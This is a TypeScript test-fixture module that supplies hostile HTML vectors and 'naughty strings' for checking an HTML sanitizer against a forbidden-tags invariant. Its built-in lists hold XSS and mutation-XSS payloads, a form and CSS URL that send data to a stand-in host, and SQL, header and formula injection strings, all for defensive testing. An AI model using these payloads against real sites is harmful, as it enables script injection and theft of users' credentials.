import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type HtmlInvariant, INVARIANT } from './html-invariant.js';
import { at, isRecord } from './json.js';

export interface HtmlVector {
  readonly id: string;
  readonly payload: string;
}

/** A few of each kind, for where the large collections do not exist. */
const FEW_VECTORS: readonly HtmlVector[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p style="background:url(https://e.example/?c)">x</p>',
  '<a href="https://e.example/" target="_blank">x</a>',
  '<form action=//e.example><input name=password>',
  '<p>PA &lt; 140</p>',
].map((payload, n) => ({ id: `few-${n}`, payload }));

const FEW_STRINGS: readonly string[] = [
  '',
  'null',
  'a\u0000b',
  '\ud800',
  '\u0001\u0007\u001b[31m',
  '\u202eevil',
  '__proto__',
  "';SELECT pg_sleep(0)--",
  '%_\\',
  '\r\nX-Injected: 1',
  '=1+1',
  '<script>alert(1)</script>',
  'İ ß ﬀ 한 é́́́ 😀',
  'PA < 140 & dor',
  'x'.repeat(70_000),
];

/** Attacks in HTML, and what must hold of whatever becomes of them. */
export function hostileHtml(): {
  readonly vectors: readonly HtmlVector[];
  readonly invariant: HtmlInvariant;
} {
  const data = read('xss-vectors.json');
  if (data === null) return { vectors: FEW_VECTORS, invariant: INVARIANT };
  const vectors = listAt(data, 'vectors').flatMap((vector) => {
    const id = at(vector, 'id');
    const payload = at(vector, 'payload');
    return typeof id === 'string' && typeof payload === 'string' ? [{ id, payload }] : [];
  });
  const given = at(data, 'invariant');
  return {
    vectors: [...vectors, ...FEW_VECTORS],
    invariant: {
      forbidden_tags: textsAt(given, 'forbidden_tags'),
      forbidden_attribute_regex: String(at(given, 'forbidden_attribute_regex')),
      url_attributes: textsAt(given, 'url_attributes'),
    },
  };
}

/** Strings that programs stumble over. */
export function naughtyStrings(): readonly string[] {
  const data = read('naughty-strings.json');
  if (data === null) return FEW_STRINGS;
  return [...new Set([...textsAt(data, 'blns'), ...textsAt(data, 'own'), ...FEW_STRINGS])];
}

function read(name: string): unknown {
  const file = join(import.meta.dirname, '../../../shared/data/security', name);
  const elsewhere = join(process.env.HOSTILE_DATA ?? '', name);
  const found = [file, elsewhere].find((path) => existsSync(path));
  return found === undefined ? null : JSON.parse(readFileSync(found, 'utf8'));
}

function listAt(data: unknown, name: string): readonly unknown[] {
  const list = at(data, name);
  return Array.isArray(list)
    ? list.filter((item) => isRecord(item) || typeof item === 'string')
    : [];
}

function textsAt(data: unknown, name: string): readonly string[] {
  return listAt(data, name).filter((item) => typeof item === 'string');
}
